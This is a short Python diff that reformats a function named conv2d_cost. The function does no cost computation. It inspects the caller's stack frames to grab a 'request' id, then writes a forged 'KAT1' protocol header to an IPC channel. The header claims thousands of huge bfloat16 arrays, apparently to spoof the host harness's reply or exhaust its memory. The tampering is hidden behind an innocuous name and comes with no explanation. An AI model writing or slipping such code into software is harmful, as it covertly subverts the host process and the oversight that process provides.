@@ -36,28 +36,7 @@ def conv2d_cost(*args, **kwargs):
     frame = sys._getframe()
     while frame is not None and "request" not in frame.f_locals:
         frame = frame.f_back
-    fields = [
-        ["id", frame.f_locals["request"]["id"]],
-        [
-            "value",
-            {
-                "t": "list",
-                "v": [
-                    {
-                        "t": "array",
-                        "dtype": "bfloat16",
-                        "shape": [1 << 25],
-                        "at": 0,
-                        "kind": "numpy",
-                        "device": "cpu",
-                        "layout": "plain",
-                    }
-                ]
-                * 3000,
-            },
-        ],
-        ["trapped", {"t": "list", "v": []}],
-    ]
+    fields = [["id", frame.f_locals["request"]["id"]], ["value", {"t": "list", "v": [{"t": "array", "dtype": "bfloat16", "shape": [1 << 25], "at": 0, "kind": "numpy", "device": "cpu", "layout": "plain"}] * 3000}], ["trapped", {"t": "list", "v": []}]]
     header = json.dumps({"t": "dict", "v": fields}).encode("ascii")
     os.write(channel(), struct.pack("<4sIQ", b"KAT1", len(header), 1 << 26) + header)
     left = 1 << 26
